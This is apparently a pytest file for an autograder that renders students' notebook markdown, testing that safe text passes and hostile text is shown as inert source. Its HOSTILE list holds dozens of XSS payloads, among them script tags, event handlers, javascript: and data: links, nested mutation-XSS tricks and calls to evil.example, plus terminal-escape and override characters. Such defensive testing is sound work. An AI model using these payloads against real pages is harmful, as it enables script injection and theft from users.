"""Texts from strangers: what is honest is shown as it is, and nothing that acts gets past the list."""

import copy
import re
import time

import pytest
from hypothesis import given, settings

from autograder import markdown
from autograder.markdown import as_source, harmless, is_harmless
from benchmarks import fuzz, strangers
from benchmarks.fuzz import acts

HONEST = {
    "plain": "It saturates: for $|x| > 3$ the gradient is *almost* **zero**, and nothing is learned.",
    "comparisons": "For $i<j$ and 0 < x, `a<b` holds & more; 1 < 2 > 0.",
    "display": "$$\n\\begin{align} a &< b \\\\ \\sum_{i} x_i &= 1\n\\end{align}\n$$",
    "environment": "\\begin{equation}\nL = -\\log\\frac{e^{s_y}}{\\sum_j e^{s_j}}\n\\end{equation}",
    "heading": "# My *answer*\n\n## Why & how\n\nBecause.",
    "lists": "- one\n  1. two\n  2. three\n\n3. four\n\n- [ ] to do\n- [x] done",
    "table": "| lr | accuracy |\n|:---|---:|\n| 1e-3 | 50 % |\n| 1e-2 | **55** % |",
    "code": "```python\ndef f(x):\n    return x < 3  # <script>\n```\n\n```\n<b>plain</b>\n```\n\n```nosuch\nx\n```",
    "links": '[a](https://x.org/z?a=1&b=2#c "t"), <http://u.org>, https://de.wikipedia.org/wiki/Größe',
    "mail": "[me](mailto:a@b.de), <a@b.de>, [up](#My-answer)",
    "pictures": '![curve](curve.png "t") ![](plots/my%20plot.png) ![pasted](attachment:page.png)',
    "html": 'H<sub>2</sub>O<br>x<sup>2</sup> <b>b</b> <u>u</u> <kbd>k</kbd> <img src="x.png" width="300"/> <!-- note -->',
    "blocks": "<details><summary>More</summary>\n\n*inside*\n\n</details>\n\n<div>\n\ntext\n\n</div>",
    "quotes": "> quoted\n\n---\n\nTerm\n: definition\n\n~~gone~~",
    "scripts": "Größe, 中文, עברית, 🙂, naïve\r\nsecond line",
}
PICTURES = {"page.png": {"image/png": "iVBORw0KGgo="}}

# Markdown itself makes mere text of these, which a page may show.
INERT = [
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '![x](" onerror="alert(1))',
    "a <script b",
    "`<b>`",
]

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a text": "It saturates. <script src=//evil.example/x.js></script>",
    "handler": '<img src="x.png" onerror="alert(1)">',
    "handler without quotes": "<b onclick=alert(1)>x</b>",
    "handler in capitals": '<IMG SRC="x.png" ONERROR="alert(1)">',
    "no end in a block": "<div\nonmouseover=alert(1)",
    "svg": "<svg onload=alert(1)>",
    "svg in mathematics": "<math><mtext><svg><style><img src=x onerror=alert(1)></style></svg></mtext></math>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame with an address": '<iframe src="javascript:alert(1)">',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": '<embed src="x.svg">',
    "form": '<form action="javascript:alert(1)"><input type="submit"></form>',
    "button": "<button formaction=javascript:alert(1)>x</button>",
    "field": '<input type="text" autofocus onfocus="alert(1)">',
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "style of a tag": '<p style="background:url(javascript:alert(1))">x</p>',
    "over everything": '<div style="position:fixed;inset:0">x</div>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link tag": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "textarea": "</textarea><script>alert(1)</script>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "comment in a comment": "<!-- <!-- --><script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "instruction": "<?xml version='1.0'?><script>alert(1)</script>",
    "tags within tags": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "address": "[click](javascript:alert(1))",
    "address in capitals": "[click](JaVaScRiPt:alert(1))",
    "address in entities": "[click](&#106;avascript&colon;alert(1))",
    "address with a tab": "[click](<java\tscript:alert(1)>)",
    "address behind a reference": "[click][x]\n\n[x]: javascript:alert(1)",
    "address in angles": "<javascript:alert(1)>",
    "address that a later step makes": "[click](/files/javascript:alert(1))",
    "address that a later step makes of HTML": '<a href="/files/javascript:alert(1)">click</a>',
    "data address": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "address of vbscript": "[click](vbscript:alert(1))",
    "page handed in beside the notebook": "[click](page.html)",
    "address of this server": "[click](/files/submitted/eve/page.html) [or](//evil.example)",
    "picture that is a page": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "picture elsewhere": "![seen](https://evil.example/pixel.png)",
    "picture of this server": "![x](../../logout) ![x](/logout)",
    "picture not attached": "![x](attachment:missing.png)",
    "quote in a title": "[x](https://x.org '\" onclick=\"alert(1)')<b onclick=alert(1)>",
    "mermaid": "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "closing tags": "</div></div></div></body><script>alert(1)</script>",
    "closing tags alone": "</div></div></div>",
    "crossed tags": "<b><i>x</b></i>",
    "class of the page": '<span class="full-credit">x</span>',
    "id of the page": '<span id="check_softmax">x</span>',
    "heading named like a score": "# check_softmax",
    "heading named like a comment": "# softmax-comment",
    "name": '<a name="check_softmax">x</a>',
    "terminal": "\x1b]0;owned\x07",
    "override": "gnp.\u202eexe",
    "length": "x" * 10_001,
    "brackets": "[" * 10_001,
}


def cell(source, kind="markdown", **more):
    return {"cell_type": kind, "id": "a", "metadata": {}, "source": source, **more}


def ours(name, source="", kind="markdown"):
    return cell(source, kind) | {"metadata": {"nbgrader": {"grade_id": name}}}


FRAME = {
    "cells": [
        ours("check_softmax", kind="code"),
        ours("softmax"),
        cell("<div onclick=x>ours</div>"),
        cell("raw", "raw"),
    ]
}
NAMES = {"check_softmax", "softmax", "softmax-comment"}


def shown(source, kind="markdown", **more):
    """Give what becomes of one cell of a student's, having checked that the notebook is otherwise left alone."""
    book = {"cells": [cell("1 < 2", "code"), cell(source, kind, **more)], "metadata": {"m": 1}}
    before = copy.deepcopy(book)
    done = harmless(book, FRAME)
    assert book == before
    assert done["cells"][0] == book["cells"][0]
    assert done["metadata"] == {"m": 1}
    return done["cells"][1]


class TestHonest:
    @pytest.mark.parametrize("name", HONEST)
    def test_texts_stay_as_they_are(self, name):
        attached = {"attachments": PICTURES} if "attachment:" in HONEST[name] else {}
        assert shown(HONEST[name], **attached) == cell(HONEST[name], **attached)

    @pytest.mark.parametrize("text", INERT)
    def test_what_markdown_makes_text_of_stays(self, text):
        assert shown(text) == cell(text)
        assert acts(markdown._rendered(text, {})) == []

    def test_the_instructors_own_texts_are_not_judged(self):
        assert shown("<div onclick=x>ours</div>") == cell("<div onclick=x>ours</div>")
        assert shown("raw", "raw") == cell("raw", "raw")


class TestHostile:
    @pytest.mark.parametrize("name", HOSTILE)
    def test_texts_are_shown_as_source(self, name):
        assert not is_harmless(HOSTILE[name], NAMES)
        done = shown(HOSTILE[name])
        assert done["cell_type"] == "markdown"
        assert done["source"].startswith(markdown.NOTE)
        assert re.sub(r"\x1b.*\x07|\u202e", "", HOSTILE[name])[: markdown.MAX_RENDERED] in done["source"]
        assert acts(markdown._rendered(done["source"], {})) == []
        if name not in ("length", "brackets"):
            assert is_harmless(done["source"], NAMES)

    def test_the_instructors_text_with_an_attachment_is_the_students(self):
        assert shown("<div onclick=x>ours</div>", attachments=PICTURES)["source"].startswith(markdown.NOTE)

    def test_raw_cells_are_shown_as_source_and_attachments_go(self):
        assert shown("*x*", "raw") == cell(f"{markdown.NOTE}\n\n```text\n*x*\n```")
        assert shown("<script>", attachments=PICTURES) == cell(f"{markdown.NOTE}\n\n```text\n<script>\n```")

    @pytest.mark.parametrize("ticks", ["```", "````\n~~~\n```", "`" * 50])
    def test_no_text_gets_out_of_its_fence(self, ticks):
        source = f"a\n{ticks}\n<script>alert(1)</script>\n{ticks}\n<script>alert(1)</script>\n{ticks}"
        done = as_source(cell(source))
        assert is_harmless(done["source"])
        assert source in done["source"]

    def test_many_long_texts_are_not_all_rendered(self):
        book = {"cells": [cell("\\\\( a " * 1_500) for _ in range(100)]}
        start = time.process_time()
        done = harmless(book, FRAME)["cells"]
        assert time.process_time() - start < 20
        assert 1 < sum(c["source"].startswith(markdown.NOTE) for c in done) < 100


@pytest.mark.parametrize(
    "name", ["script", "handler", "address", "address in entities", "address that a later step makes"]
)
def test_the_other_parser_sees_what_acts(name):
    assert acts(markdown._rendered(HOSTILE[name], {}))


@given(strangers.MARKDOWN)
@settings(deadline=None, max_examples=100)
def test_whatever_passes_holds_nothing_that_acts_and_whatever_does_not_is_harmless_as_source(source):
    assert fuzz.of_text(source) in ("shown", "as source")
